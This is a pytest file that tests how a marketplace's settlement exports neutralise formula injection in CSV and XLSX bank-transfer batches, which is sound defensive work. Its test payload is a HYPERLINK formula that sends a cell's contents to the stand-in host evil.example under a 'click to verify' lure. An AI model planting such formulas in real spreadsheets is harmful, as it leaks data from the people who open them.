"""Spreadsheets from user data hold text, never live formulas (issue 15: a producer's bank holder
`=HYPERLINK(...)` arrived as a formula in the XLSX bank-transfer batch)."""
import csv
import io

import pytest
from openpyxl import load_workbook

from gallery.settlements.exports import transfer_batch_xlsx
from gallery.settlements.models import StatementStatus
from gallery.spreadsheets import csv_writer, text_cell

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&D2,"Klik untuk verifikasi")'


@pytest.mark.parametrize("value", [PAYLOAD, "+62 812", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(value):
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bundo Yusnimar", "", 424_000, -5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert text_cell(value) == value


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(("a", PAYLOAD, 3))
    writer.writerows([("@x", "ok")])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["a", "'" + PAYLOAD, "3"], ["'@x", "ok"]]


def test_the_transfer_batch_stores_a_formula_looking_holder_as_text(make):
    # Given a producer whose holder was saved before bank fields were validated
    producer = make.producer("Rendang Bundo")
    producer.bank_account_holder = PAYLOAD

    class Row:  # the statement fields the batch reads
        number, amount_due, status = "ST-2026-11-0001", 424_000, StatementStatus.APPROVED

    Row.producer = producer
    # When the batch is written, then the cell is a string, not a formula
    sheet = load_workbook(io.BytesIO(transfer_batch_xlsx([Row], 50_000))).active
    cell = sheet.cell(row=2, column=5)
    assert cell.data_type == "s" and cell.value == PAYLOAD
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
